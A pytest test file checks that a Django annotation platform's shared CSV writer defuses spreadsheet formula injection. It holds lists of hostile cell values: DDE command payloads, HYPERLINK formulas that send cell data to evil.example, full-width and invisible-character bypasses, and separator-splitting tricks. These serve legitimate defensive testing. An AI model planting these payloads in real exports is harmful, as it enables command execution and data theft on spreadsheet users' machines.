"""Issue 12, finding 7 (unified): one rule for spreadsheet formula injection, ``core.csvsafe``,
used by every CSV the platform writes: curation exports (``curation.exports.common.csv_cell``,
tested end to end in ``tests/curation/test_export_formulas.py``), the agreement report
(``agreement.services.report_csv``) and the study dashboard (``studies.exports.dashboard_table``).
Formula-like text gets a leading ``'``; numbers, and numbers written as text, stay as they are.
Issue 37, M2: every CSV is read here as a spreadsheet may read it (``,``, ``;`` or tab as
separator, quotes honoured or not, trimmed, full-width mapped: :func:`assert_spreadsheet_safe`),
the agreement API's error body included, and cross-checked on LibreOffice Calc (slow)."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import pytest

from core import csvsafe

HOSTILE = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", '=HYPERLINK("x")']
PLAIN = ["plain text", "-1", "+2.5", "1e-3", "-.5", "", "a=b", "x-1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted(text):
    # the line after a CR too (issue 23), and the cell after a leading tab (a tab-separated
    # import cuts there: issue 37, M2)
    expected = {"\r=1+1": "'\r'=1+1", "\t=1+1": "'\t'=1+1"}.get(text, "'" + text)
    assert csvsafe.defuse(text) == expected
    assert csvsafe.csv_cell(text) == expected


@pytest.mark.parametrize("value", [*PLAIN, 0, -1, -2.5, 3, True])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csvsafe.defuse(value) == value and type(csvsafe.defuse(value)) is type(value)


def test_none_is_an_empty_cell():
    assert csvsafe.csv_cell(None) == "" and csvsafe.defuse(None) is None


def test_curation_exports_use_the_one_rule():
    from curation.exports.common import csv_cell

    for v in [*HOSTILE, *PLAIN, None, -1, 2.5]:
        assert csv_cell(v) == csvsafe.csv_cell(v), v


def test_studies_dashboard_uses_the_one_rule():
    from studies.exports import write_csv

    values = [*HOSTILE, *PLAIN, None, -1, 2.5]
    rows = list(csv.reader(io.StringIO(write_csv(["a"], [[v] for v in values]))))
    assert rows == [["a"], *[[str(csvsafe.csv_cell(v))] for v in values]]


def metric(value, **extra):
    return {"metric": "krippendorff_alpha", "value": value, "ci": [-0.5, 0.25], "n_items": 3, **extra}


def test_the_agreement_report_csv_defuses_strata_and_rater_names():
    from agreement.services import report_csv

    result = {
        "fields": {
            "q1": {
                "level": "ordinal",
                "humans_vs_humans": {"krippendorff_alpha": metric(-0.25)},
                "judges_vs_humans": {
                    "=1+1": {
                        "vs_human_mean": {"pearson": {**metric(0.5), "metric": "pearson"}},
                    }
                },
                "strata": {"country": {"@SUM(A1)": {"humans_vs_humans": {"krippendorff_alpha": metric(-0.125)}}}},
            }
        }
    }
    rows = list(csv.DictReader(io.StringIO(report_csv(result))))
    assert {r["value"] for r in rows} == {"-0.25", "0.5", "-0.125"}  # numbers stay numbers
    assert {r["ci_low"] for r in rows} == {"-0.5"}
    [stratum] = [r for r in rows if r["stratum"]]
    assert stratum["stratum"] == "'@SUM(A1)"
    judge = [r for r in rows if "judges_vs_humans" in r["section"]]
    assert judge and all(not r["section"].startswith(csvsafe.FORMULA_START) for r in judge)
    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values() if v)
    # a formula in any cell position is quoted
    assert all(
        not v.startswith("-") or csvsafe.PLAIN_NUMBER.fullmatch(v) or v.startswith("'")
        for r in rows
        for v in r.values()
        if v
    )


@pytest.mark.django_db
def test_the_study_dashboard_csv_defuses_names(settings, tmp_path):
    from django.test import Client

    from tests.annotation.factories import jsonl, make_project, make_user, turing_records

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.MEDIA_ROOT = tmp_path / "media"
    owner = make_user("owner", researcher=True)
    annotators = [make_user("=1+1"), make_user("@SUM(A1)"), make_user("-2+3"), make_user("-7")]
    project = make_project("cqbench.turing", owner=owner, annotators=annotators, k=1)
    from annotation import importing

    assert importing.import_items(project=project, data=jsonl(turing_records(4)), data_format="jsonl").ok
    c = Client()
    c.force_login(owner)
    r = c.get(f"/projects/{project.id}/dashboard/annotators.csv")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    assert sorted(row["name"] for row in rows) == ["'-2+3", "'=1+1", "'@SUM(A1)", "-7"]
    assert all(row["assigned"].isdigit() for row in rows)  # counts stay numbers


def test_the_validation_tables_csv_defuses_labels():
    """The validation report's CSV (API renderer and command) writes a judge named like a formula
    as text; the numbers stay numbers."""
    import csv as csvmod
    import io

    from agreement.api import CSVTablesRenderer
    from hvstats.tables import Cell, Row, Table, to_json

    table = Table(
        key="t",
        title="=1+1",
        columns=("Pearson r",),
        rows=(Row('=HYPERLINK("http://x")', (Cell(-0.25, (-0.4, -0.1), 30),)),),
    )
    body = {"status": "done", "tables": to_json([table])}
    text = CSVTablesRenderer().render(body).decode()
    rows = list(csvmod.DictReader(io.StringIO(text)))
    assert rows[0]["row"] == '\'=HYPERLINK("http://x")' and rows[0]["table"] == "t"
    assert rows[0]["value"] == "-0.25" and rows[0]["ci_low"] == "-0.4"


# ------------------------------------------------------------------ issue 23, finding 1: line breaks
#: an annotator's free-text answer: a bare CR starts a new row for readers that split on it
BREAK = "fine\r=cmd|' /C calc'!A0"
BREAKS = [BREAK, "ok\n+1+1", "a\r\n@SUM(A1)", "x\rb,=HYPERLINK(1)", 'q\n"=1+1', "t\r\t=1", "n\r-2+3"]


def _cells_of_line(line: str, sep: str = ",") -> list[str]:
    """The cells a spreadsheet reads from one line: split on ``sep`` outside quotes; a quote at a
    cell's start opens quoting ("" inside is one quote); an unclosed quote ends at the line end."""
    cells, cell, quoted, at_start, i = [], [], False, True, 0
    while i < len(line):
        ch = line[i]
        if quoted:
            if ch == '"' and line[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell.append(ch)
        elif ch == '"' and at_start:
            quoted, at_start = True, False
        elif ch == sep:
            cells.append("".join(cell))
            cell, at_start = [], True
        else:
            cell.append(ch)
            at_start = False
        i += 1
    cells.append("".join(cell))
    return cells


#: the separators a spreadsheet's CSV import may be set to: the comma (English locales), the
#: semicolon (German and most European locales), the tab ("tab-separated")
SEPARATORS = (",", ";", "\t")
#: what a naive reader may take for a line end: CR, LF, CRLF, VT, FF, the file/group/record
#: separators, NEL, U+2028, U+2029
NAIVE_LINE = re.compile("\r\n|[\r\n\v\f\x1c\x1d\x1e\x85\u2028\u2029]")


def spreadsheet_rows(text: str) -> list[list[str]]:
    """Every row any reader may see in ``text``, for each separator in :data:`SEPARATORS`:
    Python's ``csv`` reader with that delimiter (line breaks on \\r, \\n and \\r\\n outside
    quotes); lines split naively (:data:`NAIVE_LINE`) regardless of quotes, each then cut into
    cells honouring a quote at a cell's start (LibreOffice's string delimiter) and, naiver still,
    cut at every separator with ``str.split``; and all of this again on the text mapped to ASCII
    first (NFKC: a full-width ``；`` is a separator there)."""
    rows: list[list[str]] = []
    for source in (text, unicodedata.normalize("NFKC", text)):
        lines = NAIVE_LINE.split(source)
        for sep in SEPARATORS:
            rows += list(csv.reader(io.StringIO(source, newline=""), delimiter=sep))
            rows += [_cells_of_line(line, sep) for line in lines]
            rows += [line.split(sep) for line in lines]
    return rows


def _blank(ch: str) -> bool:
    """A character a reader may drop in front of a cell, from the Unicode database itself (not
    from the module under test): a blank, a control, an invisible format character, a quote."""
    return ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf") or unicodedata.normalize("NFKC", ch) == '"'


def _trimmed(cell: str) -> str:
    """``cell`` as a spreadsheet that trims and maps may read it: blanks (every Unicode space and
    line break), controls, invisible format characters (ZWSP, BOM, bidi marks) and quotes dropped
    in front, then NFKC (full-width ``＝`` is ``=``)."""
    i = 0
    while i < len(cell) and _blank(cell[i]):
        i += 1
    return unicodedata.normalize("NFKC", cell[i:]).strip()


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could evaluate ``cell``: as it is (a formula sign, or a leading tab
    or CR), with spaces trimmed ("trim spaces"), or trimmed of every blank and invisible and
    mapped to ASCII; a plain number (``-1``) is a number, not a formula."""
    readings = [cell, cell.strip(" "), _trimmed(cell)]
    return any(r.startswith(csvsafe.FORMULA_START) and not csvsafe.PLAIN_NUMBER.fullmatch(r.strip()) for r in readings)


def assert_spreadsheet_safe(text: str) -> None:
    """No cell of any row any reader sees (:func:`spreadsheet_rows`), in any reading
    (:func:`runs_as_formula`), can run as a formula (numbers written as text aside)."""
    bad = [(row, cell) for row in spreadsheet_rows(text) for cell in row if runs_as_formula(cell)]
    assert not bad, bad[:5]


def assert_line_breaks_quoted(text: str) -> None:
    """Rows end in \\r\\n and every line break inside a value is inside quotes: Python's reader
    with \\r\\n rows sees as many rows as the text has \\r\\n outside quotes."""
    outside, quoted = [], False
    for ch in text:
        if ch == '"':
            quoted = not quoted
        elif not quoted:
            outside.append(ch)
    bare = "".join(outside)
    assert bare.replace("\r\n", "") == bare.replace("\r\n", "").replace("\r", "").replace("\n", ""), (
        "a line break outside quotes that is not a row end"
    )


def test_the_one_writer_defuses_the_line_after_a_break():
    buf = io.StringIO(newline="")
    w = csvsafe.writer(buf)
    w.writerow(["id", "value"])
    for i, v in enumerate([*BREAKS, *HOSTILE, *PLAIN, -1, 2.5, None]):
        w.writerow([i, v])
    text = buf.getvalue()
    assert_spreadsheet_safe(text)
    assert_line_breaks_quoted(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["0", "fine\r'=cmd|' /C calc'!A0"]  # one row, the break kept inside the cell
    assert len(rows) == 1 + len(BREAKS) + len(HOSTILE) + len(PLAIN) + 3
    assert [r[1] for r in rows[-3:]] == ["-1", "2.5", ""]
    assert "fine\r=cmd" not in text


@pytest.mark.parametrize("value", BREAKS)
def test_defuse_is_idempotent_and_keeps_the_text(value):
    once = csvsafe.defuse(value)
    assert csvsafe.defuse(once) == once
    assert once.replace("'", "") == value.replace("'", "")


def test_the_one_writer_writes_every_csv():
    """No module of the platform writes CSV but through ``core.csvsafe`` (the pure ``hvstats``
    package takes the writer from its caller; its fallback is for use outside the platform)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root)
        # packaging/: the hv-stats wheel's build folder (tests/hvstats/test_distribution.py builds
        # it, maybe while this runs) holds copies of hvstats/, not code of its own
        if rel.parts[0] in {"tests", ".venv", "perf", "node_modules", "packaging"} or rel.as_posix() in {
            "core/csvsafe.py",
            "hvstats/tables.py",
        }:
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(rel.as_posix())
    assert not offenders, offenders


def test_the_agreement_report_csv_survives_line_breaks():
    from agreement.services import report_csv

    result = {
        "fields": {
            "q1": {
                "level": "ordinal",
                "humans_vs_humans": {"krippendorff_alpha": metric(-0.25)},
                "judges_vs_humans": {BREAK: {"vs_human_mean": {"pearson": {**metric(0.5), "metric": "pearson"}}}},
                "strata": {"country": {"ok\n+1+1": {"humans_vs_humans": {"krippendorff_alpha": metric(-0.125)}}}},
            }
        }
    }
    text = report_csv(result)
    assert_spreadsheet_safe(text)
    assert_line_breaks_quoted(text)
    assert {r["value"] for r in csv.DictReader(io.StringIO(text, newline=""))} == {"-0.25", "0.5", "-0.125"}


def test_the_validation_tables_csv_survives_line_breaks():
    from agreement.api import CSVTablesRenderer
    from hvstats.tables import Cell, Row, Table, to_json

    table = Table(key="t", title="x", columns=(BREAK,), rows=(Row("a\r\n@SUM(A1)", (Cell(-0.25, (-0.4, -0.1), 30),)),))
    text = CSVTablesRenderer().render({"status": "done", "tables": to_json([table])}).decode()
    assert_spreadsheet_safe(text)
    assert_line_breaks_quoted(text)
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["value"] == "-0.25" and row["row"] == "a\r\n'@SUM(A1)"


def test_the_ahead_tables_csv_uses_the_one_writer():
    from hvstats.tables import Cell, Row, Table, to_csv

    table = Table(key="t", title="x", columns=("c",), rows=(Row(BREAK, (Cell(0.5, None, 3),)),))
    text = to_csv([table], csvsafe.dict_writer)
    assert_spreadsheet_safe(text)
    assert_line_breaks_quoted(text)


@pytest.mark.django_db
def test_the_study_dashboard_csvs_survive_line_breaks(settings, tmp_path):
    from django.test import Client

    from annotation import importing
    from annotation.models import Rater
    from tests.annotation.factories import jsonl, make_project, make_user, turing_records

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.MEDIA_ROOT = tmp_path / "media"
    owner = make_user("owner", researcher=True)
    annotators = [make_user("ann1"), make_user("ann2")]
    project = make_project("cqbench.turing", owner=owner, annotators=annotators, k=1)
    assert importing.import_items(project=project, data=jsonl(turing_records(4)), data_format="jsonl").ok
    for i, rater in enumerate(Rater.objects.filter(user__in=annotators)):
        rater.attributes = {"note": BREAKS[i], "x": "y\r+1+1"}
        rater.save(update_fields=["attributes"])
    c = Client()
    c.force_login(owner)
    for table in ("annotators", "strata", "throughput"):
        r = c.get(f"/projects/{project.id}/dashboard/{table}.csv")
        assert r.status_code == 200
        text = r.content.decode()
        assert_spreadsheet_safe(text)
        assert_line_breaks_quoted(text)
    text = c.get(f"/projects/{project.id}/dashboard/annotators.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2 and all(row["assigned"].isdigit() for row in rows)


# ------------------------------------------------------------------ issue 37, M2: beyond the comma
#: the attack's payloads: a cell a semicolon or tab import cuts out of a value (the annotator
#: attribute set through the account form), blanks in front ("trim spaces", and the leading spaces
#: imported rater attributes keep), full-width signs, invisible prefixes, the line breaks a naive
#: reader may split on, and the agreement API's reflected field name
LOCALE_PAYLOADS = [
    "region = x;=1+1",
    "x;=1+1",
    "a\t=1+1",
    "a;\t=1+1",
    'x,=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "x; -2+3",
    " =1+1",
    "   @SUM(A1:A9)",
    "\u00a0=1+1",  # NBSP
    "\u200b=1+1",  # zero-width space
    "\ufeff+1+1",  # BOM
    "\u3000=1+1",  # ideographic space
    "\u202e=1+1",  # right-to-left override
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",
    "⁼1+1",
    "x；＝1+1",  # full-width semicolon
    "x，=1+1",  # full-width comma
    "x\v=1+1",
    "x\f=1+1",
    "x\x85=1+1",  # NEL
    "x\u2028=1+1",
    "x\u2029@SUM(A1)",
    'x;"=1+1"',
    "x; \u200b＝1+1",
    "1;2;=1+1;3",
]
#: text a spreadsheet shows as it is however it cuts and trims: written unchanged
LOCALE_PLAIN = [
    "plain text",
    "a=b",
    "x-1",
    "1;-2",
    "3,5",
    "a; b, c",
    "E=mc²",
    "naïve café; 東京",
    "x;-1.5e3",
    "rate: 1 - 2",
]


def written(values: list) -> str:
    """``values`` as the one writer writes them, one row each after an id column."""
    buf = io.StringIO(newline="")
    w = csvsafe.writer(buf)
    w.writerow(["id", "value"])
    w.writerows([i, v] for i, v in enumerate(values))
    return buf.getvalue()


def test_the_simulated_spreadsheet_sees_the_attack_in_raw_csv():
    """The reader of these tests is no straw man: the payloads written by ``csv`` alone (what
    ``86e5a71`` wrote for them) run as formulas in it."""
    for value in LOCALE_PAYLOADS:
        buf = io.StringIO(newline="")
        csv.writer(buf, lineterminator="\r\n").writerow([0, value])
        with pytest.raises(AssertionError):
            assert_spreadsheet_safe(buf.getvalue())


@pytest.mark.parametrize("value", LOCALE_PAYLOADS)
def test_no_locale_split_trim_or_mapping_runs_a_payload(value):
    text = written([value])
    assert_spreadsheet_safe(text)
    assert_line_breaks_quoted(text)
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    # recognisable: the text less the apostrophes put in front of formula signs
    assert row["value"].replace("'", "") == value.replace("'", "") and row["value"] != value
    assert csvsafe.defuse(row["value"]) == row["value"]  # written once, stable


def test_the_payloads_are_defused_right_before_the_sign():
    assert csvsafe.defuse("region = x;=1+1") == "region = x;'=1+1"
    assert csvsafe.defuse(" =1+1") == " '=1+1"
    assert csvsafe.defuse("\u200b＝1+1") == "\u200b'＝1+1"
    assert csvsafe.defuse("a;\t=1+1") == "a;'\t'=1+1"
    assert csvsafe.defuse('x;"=1+1"') == 'x;"\'=1+1"'
    assert csvsafe.defuse("1;2;=1+1;3") == "1;2;'=1+1;3"


@pytest.mark.parametrize("value", LOCALE_PLAIN)
def test_text_that_runs_nowhere_is_written_unchanged(value):
    assert csvsafe.defuse(value) == value
    text = written([value])
    assert_spreadsheet_safe(text)
    assert [r["value"] for r in csv.DictReader(io.StringIO(text, newline=""))] == [value]


def test_the_lookalike_and_separator_lists_match_the_unicode_database():
    """Every character NFKC maps to a formula sign is one, every one NFKC maps to a comma or a
    semicolon ends a cell, and the ignorable characters are exactly the blanks, controls,
    invisibles and quotes: the constants are the Unicode database's, not a guess."""
    signs, ends, blank, listed = set(), set(), set(), set()
    ignorable = re.compile(f"[{csvsafe.IGNORABLE}]")
    for code in range(0x110000):
        ch = chr(code)
        mapped = unicodedata.normalize("NFKC", ch)
        if mapped[:1] in ("=", "+", "-", "@"):
            signs.add(ch)
        if mapped in (",", ";"):
            ends.add(ch)
        if ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf") or mapped == '"':
            blank.add(ch)
        if ignorable.fullmatch(ch):
            listed.add(ch)
    assert signs == set("=+-@" + csvsafe.FORMULA_LOOKALIKES)
    assert blank == listed  # every blank, control, invisible and quote, nothing else
    assert ends <= set(csvsafe.CELL_ENDS)
    assert {"\t", "\r", "\n", "\v", "\f", "\x85", "\u2028", "\u2029"} <= set(csvsafe.CELL_ENDS)


def test_error_and_status_bodies_go_through_the_one_writer():
    from agreement.api import CSVRenderer, CSVTablesRenderer

    hostile = {"detail": "unknown field 'x,=HYPERLINK(\"http://evil.example\")'; x;=1+1", "code": "invalid"}
    for renderer in (CSVRenderer(), CSVTablesRenderer()):
        for body in (hostile, {"status": "failed", "progress": 0.5, "report_id": 3, "message": "a; @SUM(A1)"}):
            text = renderer.render(body).decode()
            assert_spreadsheet_safe(text)
            [row] = list(csv.DictReader(io.StringIO(text, newline="")))
            assert {k: v.replace("'", "") for k, v in row.items()} == {
                k: str(v).replace("'", "") for k, v in body.items()
            }
        text = renderer.render([{"field": ["=1+1"]}]).decode()  # a list body: one detail cell
        assert_spreadsheet_safe(text)


def _subclasses(cls: type) -> list[type]:
    return [c for sub in cls.__subclasses__() for c in (sub, *_subclasses(sub))]


def test_every_csv_renderer_writes_error_bodies_through_the_one_writer():
    """Every DRF renderer of ``text/csv`` that the URLs reach (found, not listed: a new one is
    checked too) writes an error body and a status body that no spreadsheet runs."""
    import importlib

    from django.conf import settings
    from rest_framework.renderers import BaseRenderer

    importlib.import_module(settings.ROOT_URLCONF)  # every view, so every renderer class
    renderers = [c for c in _subclasses(BaseRenderer) if str(getattr(c, "media_type", "")).startswith("text/csv")]
    assert len(renderers) >= 2, renderers  # the agreement report and the validation tables at least
    bodies = [
        {"detail": "unknown field 'x,=HYPERLINK(\"http://evil.example\")'; x;=1+1", "code": "invalid"},
        {"field": ["x;=1+1", " @SUM(A1)"], "non_field_errors": ["＝1+1"]},
        {"status": "running", "progress": 0.5, "report_id": 1, "message": "a\t=1+1"},
        "x;=1+1",
    ]
    for renderer in renderers:
        for body in bodies:
            assert_spreadsheet_safe(renderer().render(body).decode())


@pytest.mark.django_db
def test_the_agreement_api_csv_error_body_reflects_no_formula(settings, tmp_path):
    """The attack as it was: ``?format=csv&field=x,=HYPERLINK(...)`` answered a 400 whose CSV body
    held the field name as a cell of its own."""
    from django.test import Client

    from tests.annotation.factories import make_project, make_user

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.MEDIA_ROOT = tmp_path / "media"
    owner = make_user("owner", researcher=True)
    project = make_project("cqbench.turing", owner=owner, k=1)
    c = Client()
    c.force_login(owner)
    field = 'x,=HYPERLINK("http://evil.example/?"&A1,"click");=1+1'
    r = c.get(f"/api/projects/{project.id}/agreement/", {"format": "csv", "field": field})
    assert r.status_code == 400 and r["Content-Type"].startswith("text/csv")
    text = r.content.decode()
    assert_spreadsheet_safe(text)
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert "x,'=HYPERLINK(" in row["detail"] and ";'=1+1" in row["detail"] and row["code"]


#: LibreOffice's CSV import settings (filter options: separators as character codes, the quote,
#: UTF-8, from line 1, no column formats, en-US, then token 11 "remove spaces" and token 13
#: "evaluate formulas"): comma, semicolon and tab, each with and without trimming
LIBREOFFICE_IMPORTS = [
    f"{sep},34,76,1,,1033,false,false,false,false,{trim},-1,true" for sep in (44, 59, 9) for trim in ("false", "true")
]
#: every payload evaluates to 12345 if a spreadsheet runs it, so the marker in the converted
#: values means a formula ran
MARKER = "12345"
LIBREOFFICE_PAYLOADS = [
    prefix + formula
    for formula in ("=12300+45", "+12300+45", "＝12300+45")
    for prefix in (
        "",
        "x;",
        "x,",
        "x\t",
        " ",
        "  ",
        "\u00a0",
        "\u200b",
        "\ufeff",
        "x; ",
        "x\n",
        "x\r",
        'x;"',
        "x\u2028",
    )
]


@pytest.mark.slow
def test_libreoffice_runs_no_payload_with_any_separator_or_trimming(tmp_path):
    """The cross-check on a real spreadsheet (LibreOffice Calc, headless; ``scripts/test`` and
    ``.ci/run`` install ``libreoffice-calc-nogui``): each file is imported with each setting of
    :data:`LIBREOFFICE_IMPORTS`, formulas evaluated, and written back as values. The payloads as
    plain ``csv`` writes them run in every setting; through the one writer none runs."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is missing: install libreoffice-calc-nogui (scripts/test does as root)"
    raw = io.StringIO(newline="")
    csv.writer(raw, lineterminator="\r\n").writerows(
        [["id", "value"], *([i, v] for i, v in enumerate(LIBREOFFICE_PAYLOADS))]
    )
    (tmp_path / "raw.csv").write_text(raw.getvalue(), encoding="utf-8", newline="")
    (tmp_path / "safe.csv").write_text(written(LIBREOFFICE_PAYLOADS), encoding="utf-8", newline="")
    for n, options in enumerate(LIBREOFFICE_IMPORTS):
        out = tmp_path / f"out{n}"
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation=file://{tmp_path}/profile",  # its own profile: no lock shared with a desktop
                "--headless",
                f"--infilter=CSV:{options}",
                "--convert-to",
                "csv:Text - txt - csv (StarCalc):44,34,76,1",
                "--outdir",
                str(out),
                str(tmp_path / "raw.csv"),
                str(tmp_path / "safe.csv"),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        assert MARKER in (out / "raw.csv").read_text(encoding="utf-8"), f"no payload ran unprotected: {options}"
        values = (out / "safe.csv").read_text(encoding="utf-8")
        assert MARKER not in values, (options, [line for line in values.splitlines() if MARKER in line])
